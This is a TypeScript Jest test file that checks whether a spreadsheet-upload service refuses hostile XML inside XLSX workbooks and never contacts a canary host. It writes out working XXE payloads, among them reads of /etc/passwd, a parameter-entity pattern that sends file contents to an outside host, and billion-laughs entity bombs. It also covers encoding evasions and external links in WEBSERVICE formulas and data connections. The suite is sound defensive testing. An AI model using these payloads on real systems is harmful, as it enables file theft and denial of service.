import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { unzipSync, zipSync } from 'fflate';
import { Attacked } from '../support/attacked.js';
import { Canary } from '../support/canary.js';
import { district, plan } from '../support/hainan-district.js';
import { expectRefused, sendFile } from '../support/sent-file.js';
import { plainRow, workbook } from '../support/workbook.js';

const header = ['indicator', 'region', 'period', 'numerator', 'denominator', 'value', 'date', 'note'];
const row = (value: string) => plainRow(2, ['emergency_drills', district, '2023Q1', null, null, value]);
const whole = workbook({ rows: plainRow(1, header) + row('x'), strings: '<si><t>x</t></si>' });
/** Every part that a reader opens, and one that it passes over. */
const parts = ['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml', 'xl/sharedStrings.xml', 'xl/worksheets/sheet1.xml']; // prettier-ignore

let attacked: Attacked;
let canary: Canary;
beforeAll(async () => {
  [attacked, canary] = await Promise.all([Attacked.start(), Canary.open()]);
}, 120_000);
afterAll(async () => {
  canary.close();
  await attacked.stop();
}, 60_000);

/** The workbook with a part that begins with something else, and says it in another encoding where one is given. */
function beginning(part: string, prologue: string, encode: (text: string) => Buffer = (text) => Buffer.from(text)): Buffer {
  const files = unzipSync(whole);
  const text = Buffer.from(files[part] ?? []).toString('utf8');
  return Buffer.from(zipSync({ ...files, [part]: encode(`${prologue}${text.replace(/^<\?xml.*?\?>/, '')}`) }));
} // prettier-ignore

const laughs = (depth: number, width: number) =>
  `<!DOCTYPE a [<!ENTITY l0 "ha">${Array.from({ length: depth }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(width)}">`).join('')}]>`;

const prologues = (host: string): readonly (readonly [string, string])[] => [
  ['an entity from the network', `<!DOCTYPE a [<!ENTITY x SYSTEM "http://${host}/x">]>`],
  ['an entity from the disk', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
  ['an entity by ftp, jar and gopher', `<!DOCTYPE a [<!ENTITY x SYSTEM "ftp://${host}/x"><!ENTITY y SYSTEM "jar:http://${host}/x!/y"><!ENTITY z SYSTEM "gopher://${host}/z">]>`],
  ['a type from the network', `<!DOCTYPE a SYSTEM "http://${host}/a.dtd">`],
  ['a public type', `<!DOCTYPE a PUBLIC "-//x//EN" "http://${host}/a.dtd">`],
  ['a parameter entity', `<!DOCTYPE a [<!ENTITY % p SYSTEM "http://${host}/p"> %p;]>`],
  ['a parameter entity within another', `<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#37; s SYSTEM 'http://${host}/?%f;'>"> %e; %s;]>`],
  ['a thousand million laughs', laughs(9, 10)],
  ['laughs that are quadratic', `<!DOCTYPE a [<!ENTITY q "${'q'.repeat(50_000)}">]>`],
  ['an attribute that every element would have', `<!DOCTYPE a [<!ATTLIST c v CDATA "http://${host}/">]>`],
  ['an empty type', '<!DOCTYPE a>'],
  ['a type in small letters, behind a comment', `<!-- x --><!doctype a SYSTEM "http://${host}/a">`],
  ['two types', `<!DOCTYPE a><!DOCTYPE b SYSTEM "http://${host}/b">`],
]; // prettier-ignore

/** UTF-7 as a program wrote it that has + for every sign that could be noticed. */
const utf7 = (text: string): Buffer =>
  Buffer.from(text.replaceAll(/[<>!"[\]&%;]/g, (sign) => `+${Buffer.from(sign, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`)); // prettier-ignore

const encodings: readonly (readonly [string, string, (text: string) => Buffer])[] = [
  ['UTF-7', 'UTF-7', utf7],
  ['UTF-7 behind a declaration that can be read', 'UTF-7', (text) => Buffer.concat([Buffer.from('<?xml version="1.0" encoding="UTF-7"?>'), utf7(text)])],
  ['UTF-16 with its mark', 'UTF-16', (text) => Buffer.from(`\ufeff${text}`, 'utf16le')],
  ['UTF-16 the other way round', 'UTF-16', (text) => Buffer.from(`\ufeff${text}`, 'utf16le').swap16()],
  ['UTF-16 without a mark', 'UTF-16LE', (text) => Buffer.from(text, 'utf16le')],
  ['UTF-32', 'UTF-32', (text) => Buffer.concat(Array.from(text, (sign) => { const four = Buffer.alloc(4); four.writeUInt32LE(sign.codePointAt(0) ?? 0); return four; }))],
  ['UTF-8 that says it is UTF-16', 'UTF-16', (text) => Buffer.from(text)],
  ['EBCDIC, as it says itself', 'IBM037', (text) => Buffer.from(text)],
]; // prettier-ignore

describe('XML that speaks of what is elsewhere', () => {
  it.each(parts)(
    'A04 is refused at its DOCTYPE, whatever that says, in %s; nobody is called',
    async (part) => {
      for (const [name, prologue] of prologues(canary.host)) {
        const bytes = beginning(part, `<?xml version="1.0"?>${prologue}`);
        const { errors } = await expectRefused(attacked, bytes, { withinMs: 2_000 });
        expect([name, errors]).toEqual([name, ['file.unreadable']]);
      }
      expect(canary.calls).toBe(0);
    },
    120_000,
  );

  it('A04 is refused in every encoding that a DOCTYPE could hide in', async () => {
    for (const [name, says, encode] of encodings) {
      const prologue = `<?xml version="1.0" encoding="${says}"?><!DOCTYPE a [<!ENTITY x SYSTEM "http://${canary.host}/x">]>`;
      for (const part of ['xl/sharedStrings.xml', 'xl/worksheets/sheet1.xml']) {
        const { errors } = await expectRefused(attacked, beginning(part, prologue, encode), { withinMs: 2_000 });
        expect([name, errors]).toEqual([name, ['file.unreadable']]);
      }
    }
    expect(canary.calls).toBe(0);
  }, 60_000);

  it('A04 knows five entities and no other', async () => {
    for (const entity of ['&x;', '&nbsp;', '&#0;', '&#xD800;', '&#1114112;', '&', '&#x;']) {
      const bytes = workbook({ rows: plainRow(1, header) + row(`1${entity}`) });
      const { errors } = await expectRefused(attacked, bytes, { withinMs: 2_000 });
      expect([entity, errors]).toEqual([entity, ['file.unreadable']]);
    }
  }, 30_000);

  it('A04 asks nobody for what a book, a style sheet or a picture points to', async () => {
    const link = (id: string, kind: string, target: string) =>
      `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/>`;
    const targets = [`http://${canary.host}/`, `\\\\127.0.0.1@${canary.port}\\share\\x`, 'file:///etc/passwd'];
    const rels = targets.flatMap((target, at) => [link(`e${at}`, 'externalLinkPath', target), link(`i${at}`, 'image', target), link(`h${at}`, 'hyperlink', target)]); // prettier-ignore
    const relations = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels.join('')}</Relationships>`;
    const pointing = workbook({
      rows: `${plainRow(1, header)}<row r="2"><c r="A2" t="inlineStr"><is><t>emergency_drills</t></is></c><c r="B2"><v>${district}</v></c><c r="C2" t="inlineStr"><is><t>2023Q1</t></is></c><c r="F2"><f>WEBSERVICE("http://${canary.host}/")</f></c><c r="H2" t="str"><f>[1]Sheet1!A1</f><v>x</v></c></row>`,
      after: `<hyperlinks><hyperlink ref="A2" r:id="h0" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></hyperlinks><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://${canary.host}/"/>`,
      extra: {
        'xl/externalLinks/externalLink1.xml': Buffer.from('<externalLink/>'),
        'xl/externalLinks/_rels/externalLink1.xml.rels': Buffer.from(relations),
        'xl/worksheets/_rels/sheet1.xml.rels': Buffer.from(relations),
        'xl/connections.xml': Buffer.from(`<connections><connection id="1" type="4"><webPr url="http://${canary.host}/"/></connection></connections>`),
      },
    }); // prettier-ignore
    const { errors } = await expectRefused(attacked, pointing);
    expect(errors).toContain('F2 E105');
    const dry = await sendFile(attacked, pointing, { route: 'submissions/upload?dryRun=true', fields: { plan } });
    const { draft } = JSON.parse(dry.text) as { draft?: string };
    if (draft !== undefined) {
      const marked = await attacked.send('GET', `/api/v1/submissions/${draft}/annotated.xlsx`);
      expect(marked.status).toBeLessThan(500);
    }
    expect([draft === undefined, canary.calls]).toEqual([expect.any(Boolean), 0]);
  }, 30_000);

  it('A04 had somebody to call all the while, and leaves the service as it was', async () => {
    expect(await canary.isAwake()).toBe(true);
    await attacked.expectUnharmed();
  });
});
